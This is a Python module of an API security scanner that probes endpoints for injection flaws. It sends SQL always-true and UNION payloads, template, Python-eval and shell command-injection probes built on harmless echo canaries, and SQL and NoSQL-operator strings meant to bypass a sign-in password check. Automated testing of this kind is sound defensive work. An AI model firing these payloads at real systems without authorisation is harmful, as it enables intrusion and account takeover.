"""Texts that are taken for code, 167: SQL, templates, Python, a shell, operators of a database."""

import json
from collections.abc import Iterator
from dataclasses import dataclass, replace
from functools import partial
from urllib.parse import quote

from gatepost.attacks.catalogue import find
from gatepost.attacks.errors import Inconclusive
from gatepost.attacks.making.preparing import Prepared
from gatepost.attacks.making.schemas import EACH, MemberPath, members_of, narrowed
from gatepost.attacks.outcomes import REFUSED, Verdict, got_in, not_applicable
from gatepost.attacks.people.person import Person
from gatepost.attacks.sending import Exchange
from gatepost.attacks.stage import Stage
from gatepost.attacks.targets.operation import Operation, Schema
from gatepost.attacks.targets.surface import Surface
from gatepost.attacks.trial import Trial
from gatepost.attacks.trials.breaking import broken_by, sent
from gatepost.attacks.trials.hostile_bodies import prepared_for
from gatepost.attacks.trials.hostile_targets import named
from gatepost.attacks.trials.seeing import lists_of, read, rewritten, with_member, with_query

_MOST_PLACES = 6
_ALWAYS_TRUE = (
    "' OR '1'='1", "' OR 1=1 --", "%' OR '1'='1' --", "') OR ('1'='1", '" OR "1"="1', "1 OR 1=1",
    "x' OR 'a' LIKE '%", "%' OR 1=1) --", "' UNION SELECT * FROM sqlite_master --",
)  # fmt: skip
_BRACKETS = "A{{7*7}}B${7*7}C<%= 7*7 %>D#{7*7}E{0.__class__}F"
_WORKED = ("A49", "B49C", "C49D", "D49E", "E<class ")
_PYTHON = "'zq'+'qz'+str(7*7)"
_WRONG = "no-such-one-1!"
_SHELL = ("; echo zqq$((7*7))z #", "$(echo zqq$((7*7))z)", "| echo zqq$((7*7))z")


@dataclass(frozen=True, slots=True)
class _Place:
    """A place in a request that takes a text."""

    where: str
    name: str
    path: MemberPath = ()

    def __str__(self) -> str:
        return f"{self.where} {'.'.join(self.path) or self.name}"


def injection(surface: Surface) -> Iterator[Trial]:
    """Plan attack 167 for each operation that takes texts, and for the sign-in."""
    yield Trial(find("167.3"), None, _operators_at_the_door)
    for operation in surface:
        if operation.is_websocket or surface.ends_sessions(operation) or not _places(operation):
            continue
        if surface.administrative(operation) is None and operation.method != "DELETE":
            yield Trial(find("167.1"), operation, partial(_sql, operation))
            yield Trial(find("167.2"), operation, partial(_code, operation))


def _places(operation: Operation) -> list[_Place]:
    """Return where an operation takes texts that are free."""
    found = [
        _Place("query", each.name) for each in operation.taken("query") if _is_free(each.schema)
    ]
    if operation.body is not None and operation.method in {"POST", "PUT", "PATCH"}:
        found += [
            _Place("body", each.name, each.path)
            for each in members_of(operation.body.schema)
            if EACH not in each.path and _is_free(each.schema)
        ]
    found += [
        _Place("path", each.name) for each in operation.taken("path") if _is_free(each.schema)
    ][-1:]
    return found[:_MOST_PLACES]


def _is_free(schema: Schema) -> bool:
    inner = narrowed(schema)
    return inner.get("type") == "string" and not {"enum", "const", "format", "pattern"} & set(inner)


def _with(
    prepared: Prepared, place: _Place, text: str, stage: Stage, who: Person
) -> Exchange | None:
    """Send a request with a text in one place."""
    operation = prepared.operation
    if place.where == "query":
        request = with_query(prepared.request, place.name, quote(text, safe=""))
    elif place.where == "path":
        spelled = named(operation, prepared, place.name, quote(text, safe=""))
        request = replace(prepared.request, target=spelled)
    else:
        body = with_member(prepared.body, place.path, text)
        request = rewritten(stage, who, operation, prepared.values, body)
    return sent(stage, request, who)


def _sql(operation: Operation, stage: Stage) -> Verdict:
    _let_alice_have_some(operation, stage)
    prepared, _, proper = prepared_for(operation, stage)
    for place in _places(operation):
        plain = _with(prepared, place, "''", stage, stage.bob)
        quoted = _with(prepared, place, "it's", stage, stage.bob)
        found = None if quoted is None else broken_by(f"a quote in {place}", quoted, proper)
        if found is not None:
            return found
        for text in _ALWAYS_TRUE if _may_read(operation, place) else ():
            exchange = _with(prepared, place, text, stage, stage.bob)
            if exchange is None:
                continue
            leaked = stage.leaked(exchange)
            if leaked and (plain is None or not stage.leaked(plain)):
                return got_in(f"{text} in {place} brings what is Alice's: {leaked[0]}", exchange)
            if (found := broken_by(f"{text} in {place}", exchange, proper)) is not None:
                return found
    return REFUSED


def _may_read(operation: Operation, place: _Place) -> bool:
    """Whether a condition there may bring rows: what only keeps a text reads by none."""
    words = ("search", "query", "filter", "find", "lookup", "login")
    return place.where != "body" or any(word in operation.path for word in words)


def _let_alice_have_some(operation: Operation, stage: Stage) -> None:
    """See to it that there is something of Alice's to come out."""
    for maker in stage.surface:
        if maker.method != "POST" or maker.names or stage.surface.ends_sessions(maker):
            continue
        if stage.surface.of_people(maker):
            above = operation.path.rstrip("/")
            if above.startswith(maker.path.rstrip("/")) or not operation.names:
                try:
                    stage.preparing(stage.alice).row(maker)
                except Inconclusive:
                    continue


def _code(operation: Operation, stage: Stage) -> Verdict:
    prepared, who, proper = prepared_for(operation, stage)
    writer = stage.bob if who is None else who
    for place in _places(operation):
        mark = stage.preparing(writer).canaries.new()[:12]
        texts = {
            f"{mark}{_BRACKETS}": [f"{mark}{_WORKED[0]}", *_WORKED[1:]],
            _PYTHON: ["zqqz49"],
            **{f"x{text}": ["zqq49z"] for text in _SHELL},
        }
        for text, worked in texts.items():
            exchange = _with(prepared, place, text, stage, writer)
            if exchange is None:
                continue
            seen = [exchange, *_read_again(operation, stage, prepared, writer, exchange)]
            for each in seen:
                if any(result.encode() in each.answered.body for result in worked):
                    return got_in(f"code in {place} is worked: {text}", exchange, each)
            if "'" in text:
                continue  # that a quote breaks it is attack 167.1
            if (found := broken_by(f"{text} in {place}", exchange, proper)) is not None:
                return found
    return REFUSED


def _read_again(
    operation: Operation, stage: Stage, prepared: Prepared, who: Person, exchange: Exchange
) -> list[Exchange]:
    """Return what is read of a row after a text was put into it: pages may work it only then."""
    if not exchange.succeeded or not operation.changes:
        return []
    below = [
        each
        for each in stage.surface
        if each.method == "GET"
        and (each.path == operation.path or each.path.startswith(f"{operation.path}/"))
        and not set(each.names) - set(prepared.values)
    ]
    lists = [each for each in lists_of(stage, operation, prepared.values) if each not in below]
    again = [read(stage, each, prepared.values, who) for each in (*below[:2], *lists[:1])]
    return [each for each in again if each is not None]


def _operators_at_the_door(stage: Stage) -> Verdict:
    """Try to sign in as Carol without her password: too many tries may lock her out."""
    step = stage.doors.sign_in_step
    if step is None or not stage.doors.opens_accounts:
        return not_applicable("nobody signs in by a request that the attack file describes")
    carol = replace(stage.somebody("carol"), password=_WRONG)
    proper = stage.send(stage.doors.request(step, carol))
    if proper.succeeded:
        return got_in("somebody is signed in with any password", proper)
    address = carol.email
    tries: list[tuple[str, str]] = [
        (f"{address}' --", "x"), (f"{address}' OR '1'='1' --", "x"), ("' OR 1=1 --", "x"),
        (address, "' OR '1'='1"), (f'{address}" --', "x"),
    ]  # fmt: skip
    for email, password in tries:
        if email != address and stage.doors.sign_up_step is None:
            continue  # whoever is unknown is signed up by signing in
        exchange = stage.send(
            stage.doors.request(step, replace(carol, email=email, password=password))
        )
        if exchange.succeeded:
            return got_in(f"{email!r} and {password!r} sign somebody in", exchange)
        if (found := broken_by(f"{email!r} at the sign-in", exchange, proper)) is not None:
            return found
    return REFUSED if step.form else _without_texts(stage, proper)


def _without_texts(stage: Stage, proper: Exchange) -> Verdict:
    secret = next(
        (
            name
            for name, value in json.loads(proper.request.body or b"{}").items()
            if value == _WRONG
        ),
        None,
    )
    for operator in ({"$ne": None}, {"$gt": ""}, {"$regex": ".*"}, True, 0, None, [], ["x"]):
        if secret is None:
            break
        body = {**json.loads(proper.request.body), secret: operator}
        request = replace(proper.request, body=json.dumps(body).encode())
        exchange = stage.send(request)
        if exchange.succeeded:
            return got_in(f"{json.dumps(operator)} for a password signs somebody in", exchange)
        found = broken_by(f"{json.dumps(operator)} for a password", exchange, proper)
        if found is not None:
            return found
    return REFUSED
